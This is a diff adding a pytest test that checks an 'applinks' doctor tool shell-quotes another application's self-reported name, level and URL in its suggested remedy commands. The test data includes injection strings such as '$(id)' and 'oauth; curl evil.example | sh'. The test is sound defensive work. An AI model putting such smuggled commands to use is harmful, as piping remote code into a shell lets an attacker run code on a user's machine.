@@ -2,11 +2,17 @@
 
 from __future__ import annotations
 
+import re
+import shlex
+from dataclasses import replace
+
 import pytest
 
-from applinks.doctor import Status
-from applinks.doctor.causes import CONSUMER, MANIFEST, STATE, WHO
+from applinks.audit import quoted
+from applinks.doctor import Status, looking
+from applinks.doctor.causes import CAUSES, CONSUMER, MANIFEST, STATE, WHO
 from applinks.doctor.notes import Notes
+from applinks.links import State
 from applinks.people import Person
 from in_memory import InMemory, link_to
 
@@ -19,6 +25,25 @@ def notes() -> Notes:
 def test_where_nothing_was_found_and_something_was_proven_it_is_connected(notes: Notes):
     notes.check(WHO, "as alice")
     assert notes.status() is Status.CONNECTED
+
+
+def test_no_remedy_runs_what_the_other_application_says_of_itself(notes: Notes):
+    """T-67: commands are made to be pasted."""
+    name, level = "it's $(id)", "oauth; curl evil.example | sh"
+    notes.link = replace(notes.link, name=name, application_url="https://wiki.example.com/$(id)")
+    us = notes.us
+    they = State(us.id, us.url, "1", 0.0, name, us.url, None, None, "", level, "RSA-SHA256", level, "RSA-SHA256", None)
+    looking._compare_levels(notes, they)
+    for cause in CAUSES:
+        notes.find(cause, "seen")
+    remedies = " ".join(finding.remedy for finding in notes.diagnosis(strict=False).findings)
+    commands = re.findall("`(applinks [^`]*)`", remedies)
+    assert sum(name in " ".join(shlex.split(command)) for command in commands) > 5
+    for command in commands:
+        bare = command
+        for word in (name, level, notes.link.application_url):
+            bare = bare.replace(quoted(word), "")
+        assert not {"$", "(", ";", "|", "'", '"'} & {*bare}, command
 
 
 def test_where_nothing_was_proven_it_says_so(notes: Notes):
